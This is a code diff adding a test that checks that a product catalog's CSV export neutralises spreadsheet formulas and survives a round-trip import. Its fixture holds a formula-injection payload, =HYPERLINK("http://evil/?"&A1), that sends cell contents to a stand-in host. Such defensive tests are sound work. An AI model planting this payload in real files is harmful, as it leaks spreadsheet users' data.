@@ -255,3 +255,24 @@ def test_a_group_too_deep_or_too_long_and_too_many_barcodes_are_refused(db, chec
     problems = {(row, column) for row, column, _message in problems_of(db, job)}
     assert problems == {(2, "Группа"), (3, "Штрихкоды"), (4, "Группа")}
     assert job.invalid == 3 and catalog() == {}
+
+
+def test_a_csv_export_never_hands_excel_a_formula_and_reads_back_the_same(db, actor, shop, check, apply, catalog, tmp_path):
+    # given a product whose name a cashier typed as a formula, and a code-128 barcode starting with «=»
+    apply(check("Наименование;Код;Штрихкоды;Цена", '=HYPERLINK("http://evil/?"&A1);F-1;=1+2;10'))
+    assert set(catalog()) == {'=HYPERLINK("http://evil/?"&A1)'}
+    before = catalog()
+    # when the catalog is exported to CSV
+    path = tmp_path / "export.csv"
+    with db.transaction() as session, path.open("wb") as out:
+        exports.write(session, actor, uuid.UUID(shop["catalog_id"]), "csv", out)
+    # then no cell begins with a formula sign, and importing the file back changes nothing
+    cells = [cell for line in path.read_text(encoding="utf-8-sig").splitlines()[1:] for cell in line.split(";")]
+    assert not any(cell.lstrip('"').startswith(("=", "+", "-", "@")) for cell in cells)
+    with db.transaction() as session:
+        import_id = imports.start(session, actor, uuid.UUID(shop["catalog_id"]), path.name).id
+    imports.check(db, import_id, path)
+    with db.transaction() as session:
+        job = imports.get(session, actor, import_id)
+    assert (job.state, job.unchanged, job.changed, job.new) == ("ready", 1, 0, 0)
+    assert catalog() == before
